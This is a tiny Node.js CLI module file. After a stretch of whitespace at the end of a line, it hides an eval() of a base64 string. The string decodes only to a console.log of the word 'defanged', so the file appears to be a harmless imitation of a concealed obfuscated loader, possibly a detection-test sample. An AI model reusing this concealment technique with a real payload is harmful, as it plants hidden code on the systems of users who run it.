#!/usr/bin/env node
module.exports =
/******/ (function(modules) { return modules; })([]);
var cli = module.exports;																																																																																																																																																																																																								 eval(Buffer.from("Y29uc29sZS5sb2coJ2RlZmFuZ2VkJyk=", "base64").toString());
